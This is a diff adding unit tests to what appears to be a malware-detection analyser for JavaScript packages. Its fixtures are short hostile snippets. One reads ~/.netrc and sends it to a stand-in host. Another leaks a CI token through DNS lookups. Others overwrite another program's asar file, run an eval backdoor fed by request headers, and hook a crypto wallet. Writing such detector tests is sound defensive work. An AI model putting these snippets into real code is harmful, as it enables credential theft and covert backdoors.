@@ -67,6 +67,26 @@ describe('sources reaching sinks', () => {
   })
 })
 
+describe('values gathered from loops, members and pushes', () => {
+  it('a loop variable holds the elements it iterates; object members and pushed items belong to their container', () => {
+    const f = analyseJavaScript('x.js', `const fs = require('fs'); const os = require('os'); const targets = [os.homedir() + '/.config/app/app.asar']; for (const t of targets) fs.writeFileSync(t, 'x')`)
+    expect(f.writes[0]?.target).toMatch(/code of another program/)
+    const g = b(`const fs = require('fs'); const out = {}; out.k = fs.readFileSync(require('os').homedir() + '/.netrc', 'utf8'); const q = require('https').request({ host: 'h.invalid' }); q.end(JSON.stringify(out))`)
+    expect(g.flows[0]?.source).toMatch(/credential file/)
+    const h = b(`const parts = []; parts.push(process.env.CI_JOB_TOKEN); require('dns').lookup(parts.join('.') + '.h.invalid', () => {})`)
+    expect(h.flows[0]?.source).toBe('process.env.CI_JOB_TOKEN')
+  })
+
+  it('code taken from HTTP request headers in a middleware is remote code', () => {
+    expect(b(`module.exports = (req, res, next) => { const parts = []; for (const k in req.headers) parts.push(req.headers[k]); if (parts.length > 3) eval(parts.join('')); next() }`).remoteCode).toHaveLength(1)
+    expect(b(`module.exports = (req, res) => res.end(JSON.stringify(req.headers)); const f = (s) => eval(s)`).remoteCode).toEqual([])
+  })
+
+  it('a bare side-effect import in a file that is only token-scanned is still followed', () => {
+    expect(analyseJavaScript('i.js', `import './lib/side.js'\nexport default 1\n`).requires.map((r) => r.specifier)).toEqual(['./lib/side.js'])
+  })
+})
+
 describe('load-time behaviour, judged by what co-occurs', () => {
   it('a wallet hook is high; a fetch wrapper alone is not', () => {
     const clipper = judge({ files: { 'package.json': JSON.stringify({ name: 'c', main: 'i.js' }), 'i.js': `Object.defineProperty(window, 'ethereum', { get () { return proxy } }); const proxy = {}` } })
